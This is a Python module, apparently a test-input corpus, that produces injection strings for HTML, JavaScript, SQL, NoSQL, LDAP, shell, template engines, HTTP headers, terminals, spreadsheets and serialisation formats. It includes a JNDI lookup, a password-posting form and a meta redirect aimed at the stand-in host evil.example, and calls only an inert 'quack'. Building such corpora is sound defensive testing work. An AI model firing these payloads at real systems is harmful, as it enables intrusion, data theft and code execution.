"""Texts that would be run where somebody puts them into a page, a query, a command or a header as they are.

None does harm: what they would call is `quack`, which is nowhere. The tables have a text on each line; the spaces
around it belong to this file and not to the text.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from typing import Final

_CALL: Final = "quack()"
_IMAGE: Final = f"<img src=q onerror={_CALL}>"
# Elements that run or load something by themselves, and what a lenient reader takes for an element.
_ELEMENTS: Final = f"""
    <svg onload={_CALL}>
    <details open ontoggle={_CALL}>
    <input autofocus onfocus={_CALL}>
    <body onpageshow={_CALL}>
    <iframe srcdoc="{_IMAGE}"></iframe>
    <iframe src=javascript:{_CALL}></iframe>
    <object data="data:text/html,{_IMAGE}"></object>
    <meta http-equiv=refresh content=0;url=//evil.example>
    <base href=//evil.example/>
    <form action=//evil.example><input name=password></form>
    <button formaction=javascript:{_CALL}>duck</button>
    <a href="javascript:{_CALL}">duck</a>
    <svg><animate onbegin={_CALL} attributeName=x></svg>
    <noscript><p title='</noscript>{_IMAGE}'></noscript>
    <!-- duck
    <style>*{{display:none}}</style>
    <ScRiPt>{_CALL}</sCrIpT>
    <scr<script>ipt>{_CALL}</scr</script>ipt>
    <script/duck>{_CALL}</script/duck>
    <
    <a
    </>
    <!>
    <?duck?>
    <<b>>
    <1>
"""
_CODED: Final = "&lt;b&gt;duck &#x3c;b&#x3E; &ltb&gt %3Cb%3E \\u003cb\\u003e \uff1cb\uff1e +ADw-b+AD4-"
_ENDS: Final = ('">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>")
_SCRIPTS: Final = f"""
    '-{_CALL}-'
    ";{_CALL};//
    \\';{_CALL};//
    `;{_CALL}`
    */{_CALL}/*
    __proto__[admin]=1
    <!--<script>
    }};*{{background:url(//evil.example)}}
    expression({_CALL})
    \\3c b\\3e
"""
_QUOTES: Final = ("'", '"', ")", "\\'")
_CLAUSES: Final = (" OR 1=1 --", " UNION SELECT NULL, NULL --", "; DROP TABLE ducks; --")
_QUERIES: Final = """
    1; SELECT 1
    duck'/*
    ' OR ''='
    _
    %_%
    '; PRAGMA writable_schema=1; --
    {"$ne": "duck"}
    {"$where": "sleep(9)"}
    [$gt]=
    $or
    '; return true; var x='
    a.b
    $
    *)(uid=*
    duck)(!(&(1=0
    \\2a
    ' or '1'='1
    '] | //* | a['
"""
_MARKS: Final = (";", "|", "||", "&&", "\n", ">", "^")
_COMMANDS: Final = """
    $(quack)
    `quack`
    ${IFS}quack
    () { :; }; quack
    <(quack)
    %COMSPEC%
    --
    --help
    @/etc/passwd
"""
_TEMPLATES: Final = """
    {{7*'7'}}
    {{config}}
    {{''.__class__.__mro__}}
    {% if 1 %}
    {# quack
    {{{7*7}}}
    {{
    ${7*7}
    #{7*7}
    @(7*7)
    <%= 7*7 %>
    [[${7*7}]]
    #set($q=7*7)$q
"""
# Two of them are ideographs, which become line ends where their higher bytes are cut off.
_LINE_ENDS: Final = ("\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a", "\u0085")
_HEADERS: Final = ("\r\n\r\n<b>duck</b>", "duck; Domain=evil.example", "duck, chunked", "Bearer ", "en-US;q=99999")
_TERMINALS: Final = (
    "\x1b[31mred",
    "\x1b[1A\x1b[2Kgone",
    "\x1b]0;title\x07",
    "\x1b[6n",
    "\x1bc",
    "\x9b31mred",
    "duck\b\b\b\bpond",
    "\x1b]8;;http://evil.example\x1b\\duck\x1b]8;;\x1b\\",
)
_CELLS: Final = """
    =1+1
    -1+1|quack
    @SUM(1)
    =HYPERLINK("//evil.example")
    duck,pond
    duck;pond
    du"ck
    level=fatal msg="quack"
    ${jndi:ldap://evil.example/q}
"""
_DOCUMENTS: Final = """
    [
    {"a":
    [1,]
    {"a":1,"a":2}
    {"__proto__":{"admin":1}}
    <!DOCTYPE q [<!ENTITY a "quack"><!ENTITY b "&a;&a;&a;">]><q>&b;</q>
    <![CDATA[<b>]]>
    &quack;
    !!python/object/apply:quack []
    &a [*a, *a]
    ---
    O:4:"Duck":0:{}
    __import__('quack')
    <?php quack(); ?>
    +++ATH0
"""


def _lines(table: str) -> Iterator[str]:
    return map(str.strip, table.strip().splitlines())


def elements() -> Iterator[str]:
    """Elements of HTML, some of them encoded, or with other characters between their parts."""
    yield _IMAGE
    yield from _lines(_ELEMENTS)
    yield from _CODED.split()
    for gap in ("\t", "\n", "\f", "/", "\0", "\v"):
        yield f"<img{gap}src=q{gap}onerror={_CALL}>"


def ways_out() -> Iterator[str]:
    """The end of what surrounds a text (an attribute, a comment, an element, a script), and then an element."""
    for end in _ENDS:
        yield f"{end}{_IMAGE}"
    for quote in ('"', "'", ""):
        yield f"{quote} autofocus onfocus={quote}{_CALL}"


def scripts() -> Iterator[str]:
    """The end of a string in JavaScript or in a style sheet, and what follows."""
    yield from _lines(_SCRIPTS)
    yield f"\u2028{_CALL}"


def queries() -> Iterator[str]:
    """SQL, by the mark that ends the string and by what follows; operators of MongoDB; LDAP and XPath."""
    for quote, clause in itertools.product(_QUOTES, _CLAUSES):
        yield f"duck{quote}{clause}"
    yield from _lines(_QUERIES)
    yield "\u00bf' OR 1=1 --"


def commands() -> Iterator[str]:
    """Texts that a shell would run, or take for an option."""
    for mark in _MARKS:
        yield f"duck{mark}quack"
    yield from _lines(_COMMANDS)


def templates() -> Iterator[str]:
    """Texts that template engines would evaluate."""
    yield from _lines(_TEMPLATES)


def header_lines() -> Iterator[str]:
    """Line ends after which another header or the body would begin, and header values."""
    for end in _LINE_ENDS:
        yield f"duck{end}X-Quack: 1"
    yield from _HEADERS


def terminals() -> Iterator[str]:
    """Texts that a terminal would act on when a log is shown."""
    yield from _TERMINALS


def cells() -> Iterator[str]:
    """Cells that a spreadsheet would evaluate, ends of cells, and lines that look like the log's own."""
    yield from _lines(_CELLS)
    yield from ("\t=1", "duck\tpond", "duck\n2030-01-01T00:00:00Z [info] login user=admin")


def documents() -> Iterator[str]:
    """JSON, XML, YAML and serialised objects, some of which build something when they are read."""
    yield from _lines(_DOCUMENTS)
